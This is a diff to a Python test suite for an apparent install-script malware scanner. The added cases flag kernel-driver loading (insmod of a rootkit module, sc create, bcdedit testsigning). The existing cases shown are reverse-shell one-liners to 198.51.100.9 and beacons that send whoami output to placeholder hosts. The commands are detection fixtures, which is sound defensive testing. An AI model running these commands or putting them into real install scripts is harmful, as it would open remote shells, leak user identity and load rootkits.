@@ -44,6 +44,9 @@ def rules(art: Artifact) -> set[str]:
     ("bash -c 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1' &", "install-script/reverse-shell"),
     ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f", "install-script/reverse-shell"),
     ("nslookup $(whoami).oast.example", "install-script/beacon"),
+    ("insmod ./build/diamorphine.ko 2>/dev/null", "install-script/kernel-driver"),
+    ("sc create perfctr type= kernel start= auto binPath= C:\\Windows\\System32\\drivers\\perfctr.sys", "install-script/kernel-driver"),
+    ("bcdedit /set testsigning on", "install-script/kernel-driver"),
     ("curl -d u=$(whoami) https://hooks.example/c", "install-script/beacon"),
 ])
 def test_attack_patterns_are_flagged(command, rule):
@@ -121,6 +124,12 @@ def test_no_scripts_no_findings():
 ])
 def test_reverse_shells_and_beacons_are_malicious_alone(command):
     assert decide(findings(artifact({"postinstall": command}))).level is Level.MALICIOUS
+
+
+def test_a_user_mode_service_is_no_kernel_driver():
+    # (a Windows service of the package's own program: persistence is judged elsewhere, the kernel is not touched)
+    command = "sc create fastsync start= auto binPath= \"C:\\Program Files\\fastsync\\fastsync.exe\""
+    assert "install-script/kernel-driver" not in rules(artifact({"install": command}))
 
 
 def test_a_powershell_tcp_client_that_runs_nothing_is_no_shell():
